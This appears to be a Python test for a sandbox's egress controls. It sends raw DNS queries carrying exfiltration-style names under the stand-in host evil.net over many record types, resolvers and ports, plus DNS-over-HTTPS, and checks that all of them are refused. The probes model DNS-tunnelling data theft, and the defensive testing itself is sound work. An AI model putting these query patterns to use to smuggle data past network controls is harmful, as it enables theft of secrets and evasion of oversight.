def query(name, kind, server=("127.0.0.1", 53)):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    packet = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(3)
    udp.connect(server)
    udp.send(packet)
    try:
        answer = udp.recv(4096)
    except OSError:
        return None, 0
    return answer[3] & 15, int.from_bytes(answer[6:8], "big")


A, NS, CNAME, NULL, MX, TXT, AAAA, SVCB, HTTPS, ANY, AXFR = 1, 2, 5, 10, 15, 16, 28, 64, 65, 255, 252
for server in ("127.0.0.1", "8.8.8.8", "45.0.0.53", "1.1.1.1"):
    for kind in (A, TXT, NULL, CNAME, NS, MX, ANY, AXFR, HTTPS):
        rcode, count = query("c2VjcmV0LWRhdGE.exfiltrated.evil.net", kind, (server, 53))
        must_be(f"type {kind} at {server}", (rcode, count), (5, 0))
long = ".".join(["secretdata" * 6] * 3) + ".evil.net"
must_be("long labels", query(long, TXT), (5, 0))
# A granted name has an address of this sandbox only, and nothing else, whatever is asked of it.
must_be("a granted name", query("www.example.org", A), (0, 1))
for kind in (TXT, NULL, MX, AAAA, SVCB, HTTPS, NS):
    must_be(f"type {kind} of a granted name", query("www.example.org", kind), (0, 0))
# Names below a granted suffix are answered here too: nothing is asked outside until there is a connection.
must_be("data below a granted suffix", query("exfiltrated-secret-data.example.com", A), (0, 1))
for port in (853, 5353, 5355, 137):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(0.2)
    try:
        udp.sendto(
            b"\0\7\1\0\0\1\0\0\0\0\0\0\4evil\3net\0\0\1\0\1", ("224.0.0.251" if port == 5353 else "8.8.8.8", port)
        )
        must_be(f"port {port}", udp.recvfrom(100), None)
    except OSError:
        pass
    must_be(f"tcp port {port}", talk(("8.8.8.8", port), b"x", 1), b"")
must_be("DoH", https("dns.evil.net", "/dns-query", address="8.8.8.8"), None)
done()
